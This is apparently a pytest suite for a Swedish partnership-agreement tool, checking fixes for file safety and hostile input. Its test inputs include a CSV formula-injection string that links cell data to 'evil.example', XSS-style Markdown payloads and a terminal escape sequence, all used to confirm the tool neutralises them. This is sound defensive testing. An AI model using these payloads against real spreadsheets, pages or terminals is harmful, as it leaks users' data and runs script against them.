"""Issue 22: safe with people's files and with text from outside. One test per finding (each
failed before its fix), in the issue's order."""

from __future__ import annotations

import json
import os
import pathlib
import re
import shutil
import subprocess
import sys

import pendulum
import pytest

from iop_model import IOPError, load, loads
from iop_model.errors import FileError
from support import run_cli

ROOT = pathlib.Path(__file__).parent.parent
EXAMPLES = ROOT / "examples"
SHELTER = EXAMPLES / "exempelby-kvinnojour.toml"
EXEMPELSTAD = EXAMPLES / "exempelstad-trygga-vuxna.toml"
D = pendulum.date

MINIMAL = """format_version = 1
[[agreements]]
id = "{id}"
public_party = {{ name = "{public}" }}
partner = {{ name = "Föreningen" }}
term = {{ start = 2024-01-01, end = 2024-12-31 }}
decided_on = 2023-12-01
"""


def minimal(id: str = "a", public: str = "Kommunen") -> str:
    return MINIMAL.format(id=id, public=public)


# --- 1. the user's files: never overwritten by mistake, never left half-written ------------------


def test_1_an_output_that_is_one_of_the_inputs_is_refused(tmp_path: pathlib.Path) -> None:
    source = tmp_path / "same.toml"
    shutil.copy(SHELTER, source)
    before = source.read_bytes()
    for command in (
        ["report", str(source), "-o", str(source)],
        ["due", str(source), "-o", str(source)],
        ["export", str(source), "--to", "ocds", "-o", str(source)],
        ["report", str(tmp_path), "--format", "html", "-o", str(source)],
    ):
        result = run_cli(*command)
        assert result.returncode == 2, command
        assert "is one of the inputs" in result.stderr
        assert source.read_bytes() == before


@pytest.mark.skipif(sys.platform == "win32", reason="ulimit is a POSIX shell builtin")
def test_1_a_write_that_fails_half_way_leaves_the_old_output_whole(tmp_path: pathlib.Path) -> None:
    out = tmp_path / "report.html"
    out.write_text("<p>the report of last week</p>\n", encoding="utf-8")
    command = (
        f"ulimit -f 8; {sys.executable} -m iop_model report {SHELTER} --format html "
        f"--as-of 2025-10-15 -o {out}"
    )
    result = subprocess.run(["bash", "-c", command], capture_output=True, text=True, check=False)
    assert result.returncode == 1
    assert "cannot write" in result.stderr
    assert out.read_text(encoding="utf-8") == "<p>the report of last week</p>\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.html"]  # no temporary left


def test_1_every_output_is_written_whole_by_a_rename(tmp_path: pathlib.Path) -> None:
    for command, name in (
        (["report", str(SHELTER), "--as-of", "2025-10-15"], "r.txt"),
        (["due", str(SHELTER), "--as-of", "2025-10-15", "--format", "ics"], "d.ics"),
        (["export", str(SHELTER), "--to", "ocds", "--as-of", "2025-10-15"], "e.json"),
        (["timeline", str(SHELTER), "--as-of", "2025-10-15"], "t.svg"),
    ):
        target = tmp_path / name
        target.write_text("old", encoding="utf-8")
        inode = target.stat().st_ino
        result = run_cli(*command, "-o", str(target))
        assert result.returncode == 0, result.stderr
        assert target.read_text(encoding="utf-8") != "old"
        assert target.stat().st_ino != inode  # a new file renamed into place
    assert sorted(p.name for p in tmp_path.iterdir()) == ["d.ics", "e.json", "r.txt", "t.svg"]


# --- 2. folders: what cannot be read is a problem, never skipped ------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_2_a_folder_names_every_entry_it_cannot_read(tmp_path: pathlib.Path) -> None:
    (tmp_path / "a.toml").write_text(minimal("a"), encoding="utf-8")
    (tmp_path / "dangling.toml").symlink_to(tmp_path / "nowhere.toml")
    (tmp_path / "loop.json").symlink_to(tmp_path / "loop.json")
    os.mkfifo(tmp_path / "pipe.toml")
    (tmp_path / "x.toml").mkdir()
    (tmp_path / "notes.txt").write_text("not an agreement", encoding="utf-8")
    result = run_cli("check", str(tmp_path))
    assert result.returncode == 1
    for name in ("dangling.toml", "loop.json", "pipe.toml", "x.toml"):
        assert f"{tmp_path / name}: " in result.stdout, name
    assert "notes.txt" not in result.stdout
    assert f"{tmp_path / 'a.toml'}: ok" in result.stdout
    due = run_cli("due", str(tmp_path))
    assert due.returncode == 1
    assert "pipe.toml" in due.stderr


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
def test_2_a_fifo_given_directly_is_refused_at_once(tmp_path: pathlib.Path) -> None:
    pipe = tmp_path / "pipe.toml"
    os.mkfifo(pipe)
    for command in (["check", str(pipe)], ["report", str(pipe)]):
        result = subprocess.run(
            [sys.executable, "-m", "iop_model", *command],
            capture_output=True,
            text=True,
            timeout=20,
            check=False,
        )
        assert result.returncode == 1
        assert "not a regular file" in result.stdout + result.stderr
    with pytest.raises(FileError, match="not a regular file"):
        load(pipe)


# --- 3. one agreement id in two files ----------------------------------------------------------


def test_3_two_files_with_one_agreement_id_are_refused_by_every_command(
    tmp_path: pathlib.Path,
) -> None:
    (tmp_path / "one.toml").write_text(minimal("avtal-1", "Kommunen A"), encoding="utf-8")
    (tmp_path / "two.toml").write_text(minimal("avtal-1", "Kommunen B"), encoding="utf-8")
    check = run_cli("check", str(tmp_path))
    assert check.returncode == 1
    assert "one.toml" in check.stdout
    assert "two.toml" in check.stdout
    assert "T17" in check.stdout
    for command in (
        ["due", str(tmp_path), "--format", "ics"],
        ["export", str(tmp_path), "--to", "360giving"],
        ["report", str(tmp_path)],
        ["report", str(tmp_path), "--format", "html"],
        ["assess", str(tmp_path)],
    ):
        result = run_cli(*command)
        assert result.returncode == 1, command
        assert "T17" in result.stderr
        assert "one.toml" in result.stderr
        assert "two.toml" in result.stderr


# --- 4. spreadsheets -------------------------------------------------------------------------


FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Öppna")'


def test_4_csv_cells_that_would_be_formulas_are_neutralised(tmp_path: pathlib.Path) -> None:
    source = tmp_path / "evil.toml"
    text = minimal("avtal-1").replace('name = "Kommunen"', f"name = '{FORMULA}'")
    text = text.replace('name = "Föreningen"', 'name = "+46 cmd"')
    text += 'title = "-2+3"\n' if False else ""
    source.write_text(text, encoding="utf-8")
    report = run_cli(
        "report", str(source), "--format", "csv", "--as-of", "2024-06-01", "--lang", "en"
    )
    assert report.returncode == 0, report.stderr
    assert "'=HYPERLINK" in report.stdout
    assert ";+46 cmd" not in report.stdout
    assert ";'+46 cmd" in report.stdout
    header, row = report.stdout.lstrip("\ufeff").splitlines()[:2]
    record = dict(zip(header.split(";"), row.split(";"), strict=True))
    assert record["late_reports"] == "0"  # numbers stay numbers
    assert record["in_force_start"] == "2024-01-01"  # and days stay days
    due = run_cli("due", str(source), "--format", "csv", "--as-of", "2024-06-01", "--within", "365")
    assert due.returncode == 0
    for line in due.stdout.splitlines()[1:]:
        for cell in line.split(";"):
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not (cell.startswith("-") and not cell.lstrip("-").isdigit()), cell


def test_4_neutralise_follows_owasp() -> None:
    from iop_model.outputs.csv import neutralise

    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+46") == "'+46"
    assert neutralise("-x") == "'-x"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\tx") == "'\tx"
    assert neutralise("\rx") == "'\rx"
    assert neutralise("Kommunen") == "Kommunen"
    assert neutralise(-3) == -3  # a number is a number
    assert neutralise("") == ""


# --- 5. Markdown --------------------------------------------------------------------------------


def test_5_user_text_in_markdown_is_escaped(tmp_path: pathlib.Path) -> None:
    from iop_model import Agreement, IdeaBasedParty, PublicParty, Term
    from iop_model.case import Case
    from iop_model.outputs.markdown import render_markdown
    from iop_model.queries.report import build

    evil = "# Rubrik\n<img src=x onerror=alert(1)> [klicka](javascript:alert(1)) ```"
    agreement = Agreement(
        "a",
        PublicParty("Kommunen <b>"),
        IdeaBasedParty("[x](javascript:alert(1))"),
        Term.year(2024),
        title="* punkt",
    )
    case = Case([agreement], title="## Inte en rubrik", assumptions=[evil])
    page = render_markdown(build(case, D(2024, 6, 1), "sv"))
    assert "<img" not in page
    assert re.search(r"(?<!\\)\]\(javascript:", page) is None  # no link is made
    assert "\n## Inte en rubrik" not in page
    assert "\n# Rubrik" not in page
    assert page.count("```") % 2 == 0  # no fence opened or closed by the text
    assert "\\#\\# Inte en rubrik" in page or "\\## Inte en rubrik" in page


# --- 6. terminals and invisible characters ------------------------------------------------------


def test_6_control_characters_and_bidi_overrides_are_refused_with_their_path() -> None:
    text = minimal("a").replace('name = "Föreningen"', 'name = "Förening\\u202eNEG"')
    text = text.replace('id = "a"', 'id = "a\\u0000b"')
    with pytest.raises(FileError) as caught:
        loads(text)
    problems = {p.path: p for p in caught.value.problems}
    assert "agreements[0].id" in problems
    assert problems["agreements[0].id"].rule == "I1"
    assert "agreements[0].partner.name" in problems
    assert problems["agreements[0].partner.name"].rule == "I1"
    shown = str(caught.value)
    assert "\x00" not in shown
    assert "\u202e" not in shown
    assert "\\u202e" in shown or "U+202E" in shown


def test_6_tab_and_newline_are_fine_in_long_texts_only() -> None:
    ok = minimal("a") + 'title = "IOP"\n[[agreements.extensions]]\n'
    loads(minimal("a").replace("decided_on = 2023-12-01", 'decided_on = 2023-12-01\ntitle = "IOP"'))
    note = (
        minimal("a")
        + '\n[[goals]]\nkind = "minimum_duration"\nsubject = "a"\nyears = 1\ndescription = "två\\nrader"\n'
    )
    assert loads(note).goals[0].goal.description == "två\nrader"  # type: ignore[union-attr]
    with pytest.raises(FileError) as caught:
        loads(minimal("a\\nb"))
    assert caught.value.problems[0].rule == "I1"
    assert ok


def test_6_an_escape_sequence_never_reaches_the_terminal(tmp_path: pathlib.Path) -> None:
    source = tmp_path / "evil.toml"
    source.write_text(minimal("a") + '"\\u001b]0;PWNED\\u0007\\u001b[2J" = 1\n', encoding="utf-8")
    result = run_cli("check", str(source))
    assert result.returncode == 1
    assert "\x1b" not in result.stdout + result.stderr
    assert "\x07" not in result.stdout + result.stderr
    assert "unknown key" in result.stdout


# --- 7. lone surrogates ------------------------------------------------------------------------


def test_7_a_lone_surrogate_is_refused_at_load_with_its_path() -> None:
    document = json.loads(json.dumps({"x": 1}))  # keep the linters quiet about the literal
    assert document
    text = (
        '{"format_version": 1, "agreements": [{"id": "a\\udcff", '
        '"public_party": {"name": "K"}, "partner": {"name": "F"}, '
        '"term": {"start": "2024-01-01", "end": "2024-12-31"}}]}'
    )
    with pytest.raises(FileError) as caught:
        loads(text, "json")
    problem = caught.value.problems[0]
    assert problem.path == "agreements[0].id"
    assert problem.rule == "I1"
    assert "\\udcff" in str(caught.value)
    str(caught.value).encode("utf-8")  # the message itself is valid UTF-8


# --- 8. crashes ----------------------------------------------------------------------------------


def test_8_the_first_day_and_the_last_year_are_reported_not_crashed(tmp_path: pathlib.Path) -> None:
    source = tmp_path / "early.toml"
    text = minimal("a") + (
        '\n[[agreements]]\nid = "b"\nfollows = "a"\npublic_party = { name = "Kommunen" }\n'
        'partner = { name = "Föreningen" }\nterm = { start = 2025-01-01, end = 2025-12-31 }\n'
        "decided_on = 0001-01-01\n"
    )
    source.write_text(text, encoding="utf-8")
    result = run_cli("report", str(source), "--as-of", "2025-06-01")
    assert "Traceback" not in result.stderr
    assert result.returncode in (0, 1)
    page = run_cli("report", str(SHELTER), "--format", "html", "--as-of", "9999-01-01")
    assert "Traceback" not in page.stderr
    assert page.returncode == 0, page.stderr


def test_8_timeline_output_problems_are_messages(tmp_path: pathlib.Path) -> None:
    missing = run_cli("timeline", str(SHELTER), "-o", str(tmp_path / "no" / "such" / "t.png"))
    assert missing.returncode == 1
    assert "Traceback" not in missing.stderr
    assert "cannot write" in missing.stderr
    (tmp_path / "folder.png").mkdir()
    onto = run_cli("timeline", str(SHELTER), "-o", str(tmp_path / "folder.png"))
    assert onto.returncode == 1
    assert "Traceback" not in onto.stderr


def test_8_timeline_of_several_files_writes_one_picture_each(tmp_path: pathlib.Path) -> None:
    first, second = tmp_path / "x" / "iop.toml", tmp_path / "y" / "iop.toml"
    first.parent.mkdir()
    second.parent.mkdir()
    first.write_text(minimal("avtal/1"), encoding="utf-8")
    second.write_text(minimal("avtal/2"), encoding="utf-8")
    result = run_cli("timeline", str(first), str(second), "-o", str(tmp_path / "t.svg"))
    assert result.returncode == 0, result.stderr
    pictures = sorted(p.name for p in tmp_path.glob("t*.svg"))
    assert len(pictures) == 2, pictures


# --- 9. amounts as floats --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "fmt"),
    [
        (
            minimal("a")
            + '[[agreements.contributions]]\nby = "public"\nkind = "money"\namount = 400000.50\n'
            "period = { start = 2024-01-01, end = 2024-12-31 }\n",
            "toml",
        ),
    ],
)
def test_9_an_amount_written_as_a_float_is_refused(text: str, fmt: str) -> None:
    with pytest.raises(FileError) as caught:
        loads(text, fmt)  # type: ignore[arg-type]
    problem = caught.value.problems[0]
    assert problem.path == "agreements[0].contributions[0].amount"
    assert problem.rule == "M1"


def test_9_an_amount_written_as_a_float_in_json_is_refused() -> None:
    from iop_model.files import dumps

    case = loads(
        minimal("a")
        + '[[agreements.contributions]]\nby = "public"\nkind = "money"\namount = 2150000\n'
        "period = { start = 2024-01-01, end = 2024-12-31 }\n"
    )
    data = json.loads(dumps(case, "json"))
    data["agreements"][0]["contributions"][0]["amount"] = 2150000.5
    with pytest.raises(FileError) as caught:
        loads(json.dumps(data), "json")
    assert caught.value.problems[0].rule == "M1"


# --- 10. silent acceptance ------------------------------------------------------------------


def test_10_a_follow_up_report_must_match_a_reporting_period_once() -> None:
    base = minimal("a") + 'reporting = { every = "year", within = { months = 3 } }\n'
    wrong = base + (
        "follow_up_reports = [{ period = { start = 2024-02-01, end = 2024-12-31 }, "
        "received_on = 2025-02-01 }]\n"
    )
    with pytest.raises(FileError) as caught:
        loads(wrong)
    assert caught.value.problems[0].path == "agreements[0].follow_up_reports[0].period"
    assert caught.value.problems[0].rule == "D6"
    twice = base + (
        "follow_up_reports = [{ period = { start = 2024-01-01, end = 2024-12-31 }, "
        "received_on = 2025-02-01 }, { period = { start = 2024-01-01, end = 2024-12-31 }, "
        "received_on = 2025-03-01 }]\n"
    )
    with pytest.raises(FileError) as caught:
        loads(twice)
    assert caught.value.problems[0].path == "agreements[0].follow_up_reports[1].period"
    assert caught.value.problems[0].rule == "D7"


def test_10_an_activity_report_received_before_its_period_ended_is_refused() -> None:
    text = minimal("a") + (
        '\n[[activities]]\nkind = "meeting_place"\nagreement = "a"\nname = "P"\n'
        "reports = [{ period = { start = 2024-01-01, end = 2024-06-30 }, occasions = 3, "
        "total_visitors = 30, received_on = 2024-05-01 }]\n"
    )
    with pytest.raises(FileError) as caught:
        loads(text)
    assert caught.value.problems[0].path == "activities[0].reports[0].received_on"
    assert caught.value.problems[0].rule == "A10"


def test_10_an_unknown_subject_and_a_misspelt_indicator_are_both_reported() -> None:
    text = minimal("a") + (
        '\n[[activities]]\nkind = "meeting_place"\nagreement = "a"\nname = "P"\n'
        '\n[[goals]]\nkind = "activity_target"\nsubject = "Q"\nindicator = "visitor"\n'
        "target = 3\nperiod = { start = 2024-01-01, end = 2024-12-31 }\n"
    )
    with pytest.raises(FileError) as caught:
        loads(text)
    problems = {p.path: str(p) for p in caught.value.problems}
    assert "goals[0].subject" in problems
    assert "goals[0].indicator" in problems
    assert "did you mean 'visitors'" in problems["goals[0].indicator"]


# --- 11. process-wide state --------------------------------------------------------------------


def test_11_loading_never_switches_the_garbage_collector() -> None:
    import gc
    import threading

    text = SHELTER.read_text(encoding="utf-8")
    assert gc.isenabled()
    seen: list[bool] = []
    done = threading.Event()

    def watch() -> None:
        while not done.is_set():
            seen.append(gc.isenabled())

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        for _ in range(20):
            loads(text)
    finally:
        done.set()
        watcher.join()
    assert seen
    assert all(seen)
    assert gc.isenabled()


def test_11_loads_from_several_threads_leave_the_collector_on() -> None:
    import gc
    from concurrent.futures import ThreadPoolExecutor

    text = SHELTER.read_text(encoding="utf-8")
    with ThreadPoolExecutor(8) as pool:
        cases = list(pool.map(lambda _: loads(text), range(40)))
    assert gc.isenabled()
    assert len({id(case) for case in cases}) == 40


def test_library_errors_are_iop_errors() -> None:
    assert issubclass(FileError, IOPError)


@pytest.mark.parametrize("as_of", ["0001-01-01", "2025-06-01", "9999-12-31"])
def test_8_no_command_crashes_at_the_ends_of_the_calendar(
    tmp_path: pathlib.Path, as_of: str
) -> None:
    source = tmp_path / "ends.toml"
    source.write_text(
        "format_version = 1\n[[agreements]]\nid = 'a'\ndecided_on = 0001-01-01\n"
        "public_party = { name = 'Kommunen', org_number = '212000-1355' }\n"
        "partner = { name = 'Föreningen', org_number = '802002-4280' }\n"
        "term = { start = 0001-01-01, end = 9999-12-31 }\nnotice_period = { months = 3 }\n"
        "reporting = { every = 'year', within = { months = 3 } }\n"
        "[[agreements.contributions]]\nby = 'public'\nkind = 'money'\namount = 1\n"
        "period = { start = 0001-01-01, end = 9999-12-31 }\n"
        "[[goals]]\nkind = 'minimum_duration'\nsubject = 'partnership'\nyears = 3\n",
        encoding="utf-8",
    )
    for command in (
        ["report"],
        ["report", "--format", "json"],
        ["report", "--format", "markdown"],
        ["report", "--format", "html"],
        ["report", "--format", "csv"],
        ["assess"],
        ["due", "--format", "ics"],
        ["due", "--format", "csv"],
        ["export", "--to", "ocds"],
        ["export", "--to", "360giving"],
    ):
        result = run_cli(command[0], str(source), *command[1:], "--as-of", as_of)
        assert "Traceback" not in result.stderr, (command, result.stderr[-600:])
        assert result.returncode in (0, 1), command


# --- 14. scale: one partnership at a time ---------------------------------------------------------


def test_14_the_streamed_json_is_what_one_json_document_would_be(tmp_path: pathlib.Path) -> None:
    """Reports and assessments are written one partnership at a time; the bytes are those of
    one ``json.dumps(..., indent=2)`` of the whole list."""
    import hashlib

    from iop_model.files import load_all
    from iop_model.queries.report import build

    result = run_cli("report", str(EXAMPLES), "--format", "json", "--as-of", "2024-06-01")
    assert result.returncode == 0, result.stderr
    expected = [
        build(
            case,
            D(2024, 6, 1),
            input_sha256=hashlib.sha256(pathlib.Path(name).read_bytes()).hexdigest(),
        )
        for name, case in load_all([EXAMPLES])
    ]
    assert result.stdout == json.dumps(expected, ensure_ascii=False, indent=2) + "\n"
    assess = run_cli("assess", str(EXAMPLES), "--json", "--as-of", "2024-06-01")
    assert [d["file"] for d in json.loads(assess.stdout)] == [
        name for name, _ in load_all([EXAMPLES])
    ]
    one = run_cli("assess", str(SHELTER), "--json", "--as-of", "2024-06-01")
    assert json.loads(one.stdout)["file"] == str(SHELTER)
